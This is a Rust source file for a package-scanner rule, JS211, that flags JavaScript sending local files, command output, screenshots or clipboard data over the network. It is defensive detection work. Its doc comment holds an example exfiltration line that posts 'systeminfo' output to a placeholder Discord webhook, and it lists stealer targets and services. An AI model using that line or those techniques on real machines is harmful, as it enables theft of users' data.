//! JS211 `data-exfiltration`: local files, command output, screenshots or
//! the clipboard sent out by code nobody asked to run, or to a
//! chat/paste/catcher service.
//!
//! **What it detects.** A network send — `http(s).request/get`, `fetch`,
//! `axios`, sockets, a request object's `write`/`end`/`send`, a Telegram
//! bot's `sendDocument`/`sendPhoto`, a DNS query built from the data —
//! (or a stream `.pipe`d into one) whose body, query string or socket
//! payload carries
//! - the contents of a local file (`fs.readFileSync`, `readFile` data,
//!   `createReadStream`),
//! - the output of a command (`execSync(...)`, `exec`'s stdout),
//! - a screenshot (`screenshot-desktop`, `desktopCapturer`), or
//! - the clipboard (`clipboardy.read`, `pbpaste`, `Get-Clipboard`),
//!
//! when either the code runs unasked (an install script; in the package's
//! `main`, code that runs at load: top level, an IIFE, a function called at
//! top level, a callback of such a call), or the destination is an
//! exfiltration service — a Discord/Slack webhook, the Telegram bot API, a
//! paste or file-drop site, a request catcher or tunnel
//! ([`crate::ioc::exfil_service`], the same list as PY113 and `INTEL502`).
//!
//! **Why it matters.** Stealers collect files (browser databases, wallet
//! files, `.env`), command output (`ipconfig /all`, `systeminfo`) and
//! screenshots, and upload them — often to a Discord webhook or a Telegram
//! bot. Nothing legitimate uploads local data while being installed
//! (CWE-200, MITRE T1041/T1567).
//!
//! **Example.**
//! ```js
//! const out = execSync('systeminfo').toString();
//! fetch('https://discord.com/api/webhooks/000/placeholder', { method: 'POST', body: out });
//! ```
//!
//! **False positives.** Upload clients and CLIs send files the user chose
//! to their own service from library code: not flagged unless the
//! destination is a chat webhook, paste site or catcher, and then Medium
//! when the data is only a file. Data used as the *base* of a URL or as a
//! host (`execSync('npm config get registry') + '/pkg'`) is not "sent".
//! Credential files (JS203) and recon commands (JS201) are left to their
//! own rules. In minified bundles, flows without a named service are at
//! most Medium with low confidence.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::{Call, Facts, NONE, label};
use super::{Ctx, api, network_sinks};

const MAX_PER_FILE: usize = 6;
/// Sinks whose "runs at load" question is asked per file.
const MAX_LOAD_CHECKS: usize = 32;

/// Option keys that say where a request goes, not what it carries.
const WHERE_KEYS: [&str; 10] = [
    "host", "hostname", "port", "baseURL", "baseUrl", "url", "uri", "proxy", "agent", "headers",
];

pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
    let f = ctx.facts;
    let minified = f.looks_minified();
    let file_service = if minified {
        None
    } else {
        f.strings.iter().take(20_000).find_map(|&s| {
            f.string_value(s)
                .and_then(|v| crate::ioc::exfil_service(&v))
        })
    };
    let mut sinks: Vec<&Call<'_>> = network_sinks(f).into_iter().map(|(c, _)| c).collect();
    // Telegram bot clients: `bot.sendDocument(chat, fs.createReadStream(p))`.
    sinks.extend(f.calls.iter().filter(|c| {
        matches!(
            c.method,
            Some("sendDocument" | "sendPhoto" | "sendMessage" | "sendMediaGroup")
        ) && c.receiver != NONE
            && f.label(c.receiver) & label::NET != 0
    }));
    // `fs.createReadStream(p).pipe(req)`: local data streamed into a request.
    let piped: Vec<&Call<'_>> = f
        .calls
        .iter()
        .filter(|c| {
            c.method == Some("pipe")
                && c.receiver != NONE
                && f.label(c.receiver) & label::LOCAL_DATA != 0
                && c.args
                    .first()
                    .is_some_and(|&a| f.label(a) & label::NET != 0)
        })
        .collect();
    sinks.extend(piped.iter().copied());
    sinks.sort_by_key(|c| c.node);
    sinks.dedup_by_key(|c| c.node);
    let mut out = Vec::new();
    let mut checked = 0;
    for c in sinks {
        let data = if piped.iter().any(|p| p.node == c.node) {
            f.label(c.receiver)
        } else {
            sent_labels(f, c)
        };
        let local = data & label::LOCAL_DATA;
        if local == 0 || data & label::SECRET != 0 {
            continue; // nothing local, or credentials (JS203)
        }
        if local == label::PROCOUT && data & label::RECON_STRONG != 0 {
            continue; // `whoami` output: JS201
        }
        let call_service = f.args_marker(c, crate::ioc::exfil_service);
        let service = call_service.or(file_service);
        let unasked = ctx.unasked() && {
            checked += 1;
            checked <= MAX_LOAD_CHECKS && ctx.runs_at_load(c.node)
        };
        let loud = label::PROCOUT | label::SCREEN | label::CLIP;
        let (mut sev, mut conf) = match (unasked, service) {
            (true, Some(_)) => (Severity::Critical, Confidence::High),
            (true, None) => (Severity::High, Confidence::High),
            (false, Some(_)) if local & loud != 0 => (Severity::High, Confidence::High),
            (false, Some(_)) => (Severity::Medium, Confidence::Medium),
            (false, None) => continue,
        };
        if minified && call_service.is_none() {
            sev = sev.min(Severity::Medium);
            conf = Confidence::Low;
        }
        let path = c.path.as_deref().unwrap_or("");
        let mut fi = ctx
            .finding(
                c.node,
                "JS211",
                "data-exfiltration",
                sev,
                conf,
                format!("sends {} over the network", label::names(local).join(", ")),
            )
            .evidence(format!(
                "via: {}",
                if path.is_empty() {
                    c.method.unwrap_or("?")
                } else {
                    path
                }
            ));
        if let Some(s) = service {
            fi = fi.evidence(format!("destination: a {s}"));
        }
        if unasked {
            fi = fi.evidence(
                "in code that runs unasked (install script, or the package main at load)",
            );
        }
        out.push(fi);
        if out.len() >= MAX_PER_FILE {
            break;
        }
    }
    out
}

/// Labels of what a call sends: its arguments, except where a request
/// goes (host options, and data that *is* the start of a URL).
fn sent_labels(f: &Facts<'_>, c: &Call<'_>) -> u32 {
    let path = c.path.as_deref().unwrap_or("");
    let url_first = api::is_network(path);
    let mut l = 0;
    for (k, &a) in c.args.iter().enumerate().take(4) {
        l |= arg_sent(f, a, k == 0 && url_first, 0);
    }
    l
}

fn arg_sent(f: &Facts<'_>, a: u32, url_pos: bool, depth: usize) -> u32 {
    match f.kind(a) {
        // A callback's labels are what it receives, not what is sent.
        "arrow_function" | "function_expression" => 0,
        "object" if depth < 3 => {
            let mut l = 0;
            for p in f.children(a).take(64) {
                match f.kind(p) {
                    "pair" => {
                        let key = f.text(f.field(p, "key"));
                        let key = key.trim_matches(['"', '\'']);
                        if WHERE_KEYS.contains(&key) {
                            continue;
                        }
                        let v = f.field(p, "value");
                        // `path: '/c?d=' + out` is a URL too.
                        l |= arg_sent(f, v, key == "path", depth + 1);
                    }
                    "shorthand_property_identifier" => {
                        if !WHERE_KEYS.contains(&f.text(p)) {
                            l |= f.label(p);
                        }
                    }
                    _ => l |= f.label(p),
                }
            }
            l
        }
        _ if url_pos => {
            // Data at the start of a URL is where the request goes, not
            // what it carries: `${registry}/pkg`.
            match f.const_string(a, 0) {
                Some(s) if !s.starts_with('…') => f.label(a),
                _ => 0,
            }
        }
        _ => f.label(a),
    }
}
